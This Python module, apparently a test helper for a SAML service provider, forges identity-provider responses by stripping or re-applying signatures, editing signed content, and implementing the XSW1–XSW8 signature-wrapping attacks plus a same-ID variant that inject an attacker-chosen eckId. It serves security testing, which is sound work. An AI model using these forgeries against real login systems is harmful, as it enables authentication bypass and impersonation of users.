"""Answers that no honest identity provider gives, made of one that it did give.

`without_signatures`, `changed` and the wrappings leave the provider's signature as it was: what somebody on
the way could do. `signed_anew` signs with the provider's own key: what a careless provider could do.
"""

import base64
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from typing import Any

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as Words
from onelogin.saml2.utils import OneLogin_Saml2_Utils
from simplesamlphp import Answer, IdentityProvider

NS = {
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
Change = Callable[[Any], object]


def changed(answer: Answer, change: Change) -> Answer:
    """The answer after this change, its signatures as they were."""
    document = etree.fromstring(answer.xml)
    change(document)
    return sent(answer, etree.tostring(document))


def without_signatures(answer: Answer) -> Answer:
    """The answer with no signature at all."""
    return changed(answer, _unsign)


def signed_as_a_message_only(answer: Answer, *, by: IdentityProvider) -> Answer:
    """The answer with a signature around the whole, and none on the assertion."""
    document = etree.fromstring(answer.xml)
    _unsign(document)
    return sent(answer, _signature(etree.tostring(document), by.key, by.certificate))


def signed_anew(answer: Answer, change: Change, *, key: str, certificate: str) -> Answer:
    """The answer after this change, its assertion signed again with this key."""
    document = etree.fromstring(answer.xml)
    _unsign(document)
    change(document)
    assertion = one(document, "//saml:Assertion")
    signed = etree.fromstring(_signature(etree.tostring(assertion), key, certificate))
    assertion.getparent().replace(assertion, signed)
    return sent(answer, etree.tostring(document))


def one(document: Any, path: str) -> Any:
    """The one element on this path."""
    (found,) = document.xpath(path, namespaces=NS)
    return found


def set_text(path: str, text: str) -> Change:
    """A change: other words in the one element on this path."""

    def change(document: Any) -> None:
        one(document, path).text = text

    return change


def set_name(path: str, name: str, value: str | None) -> Change:
    """A change: another value of an attribute (None: no such attribute) in every element on this path."""

    def change(document: Any) -> None:
        for element in document.xpath(path, namespaces=NS):
            if value is None:
                element.attrib.pop(name, None)
            else:
                element.set(name, value)

    return change


def drop(path: str) -> Change:
    """A change: nothing on this path."""

    def change(document: Any) -> None:
        for element in document.xpath(path, namespaces=NS):
            element.getparent().remove(element)

    return change


def wrapped(answer: Answer, *, way: str, eck_id: str) -> Answer:
    """Signature wrapping: the signed assertion hidden somewhere, one of the attacker's in its place.

    Somorovsky et al., *On Breaking SAML* (2012), number the ways XSW1 to XSW8; the first two wrap the
    message, the others the assertion.
    """
    return changed(answer, lambda document: _WRAPPINGS[way](document, eck_id))


def _evil(document: Any, eck_id: str, *, keep_signature: bool = False) -> tuple[Any, Any]:
    signed = one(document, "/samlp:Response/saml:Assertion")
    evil = deepcopy(signed)
    if not keep_signature:
        drop("./ds:Signature")(evil)
    evil.set("ID", "_evil")
    one(evil, ".//saml:Attribute[@Name='eckId']/saml:AttributeValue").text = eck_id
    return signed, evil


def _message_unsigned(document: Any) -> None:
    drop("/samlp:Response/ds:Signature")(document)


def _message_around(document: Any, eck_id: str, *, inside: bool) -> None:
    """XSW1 and XSW2: an evil message, the signed message inside or beside its signature."""
    signed = deepcopy(document)
    drop("./ds:Signature")(signed)
    signature = one(document, "/samlp:Response/ds:Signature")
    document.set("ID", "_evil")
    one(document, "//saml:Attribute[@Name='eckId']/saml:AttributeValue").text = eck_id
    if inside:
        signature.append(signed)
    else:
        document.insert(0, signed)


def _before(document: Any, eck_id: str) -> None:
    """XSW3: the evil assertion first."""
    _message_unsigned(document)
    signed, evil = _evil(document, eck_id)
    signed.addprevious(evil)


def _within(document: Any, eck_id: str) -> None:
    """XSW4: the signed assertion inside the evil one."""
    _message_unsigned(document)
    signed, evil = _evil(document, eck_id)
    signed.getparent().replace(signed, evil)
    evil.append(signed)


def _signature_moved(document: Any, eck_id: str) -> None:
    """XSW5: the evil assertion carries the signature, the signed one follows without it."""
    _message_unsigned(document)
    signed, evil = _evil(document, eck_id, keep_signature=True)
    signed.addprevious(evil)
    drop("./ds:Signature")(signed)


def _within_signature(document: Any, eck_id: str) -> None:
    """XSW6: the signed assertion inside the signature of the evil one."""
    _message_unsigned(document)
    signed, evil = _evil(document, eck_id, keep_signature=True)
    signed.getparent().replace(signed, evil)
    drop("./ds:Signature")(signed)
    one(evil, "./ds:Signature").append(signed)


def _in_extensions(document: Any, eck_id: str) -> None:
    """XSW7: the evil assertion in the extensions of the message, where a scheme allows anything."""
    _message_unsigned(document)
    _, evil = _evil(document, eck_id)
    extensions = etree.SubElement(document, f"{{{NS['samlp']}}}Extensions")
    document.remove(extensions)
    one(document, "/samlp:Response/saml:Issuer").addnext(extensions)
    extensions.append(evil)


def _in_object(document: Any, eck_id: str) -> None:
    """XSW8: the signed assertion in an object of the signature of the evil one."""
    _message_unsigned(document)
    signed, evil = _evil(document, eck_id, keep_signature=True)
    signed.getparent().replace(signed, evil)
    drop("./ds:Signature")(signed)
    box = etree.SubElement(one(evil, "./ds:Signature"), f"{{{NS['ds']}}}Object")
    box.append(signed)


def _same_id(document: Any, eck_id: str) -> None:
    """The signed assertion in an object, the evil one under the very same id."""
    _in_object(document, eck_id)
    hidden = one(document, "//ds:Object/saml:Assertion")
    one(document, "/samlp:Response/saml:Assertion").set("ID", hidden.get("ID"))


_WRAPPINGS: dict[str, Callable[[Any, str], None]] = {
    "XSW1": lambda document, eck_id: _message_around(document, eck_id, inside=True),
    "XSW2": lambda document, eck_id: _message_around(document, eck_id, inside=False),
    "XSW3": _before,
    "XSW4": _within,
    "XSW5": _signature_moved,
    "XSW6": _within_signature,
    "XSW7": _in_extensions,
    "XSW8": _in_object,
    "same id": _same_id,
}
WAYS = tuple(_WRAPPINGS)


def _unsign(document: Any) -> None:
    drop("//ds:Signature")(document)


def _signature(xml: bytes, key: str, certificate: str) -> bytes:
    signed = OneLogin_Saml2_Utils.add_sign(
        xml, key, certificate, sign_algorithm=Words.RSA_SHA256, digest_algorithm=Words.SHA256
    )
    return signed if isinstance(signed, bytes) else str(signed).encode()


def sent(answer: Answer, xml: bytes) -> Answer:
    """The answer with these bytes for a message."""
    return replace(answer, message=base64.b64encode(xml).decode())
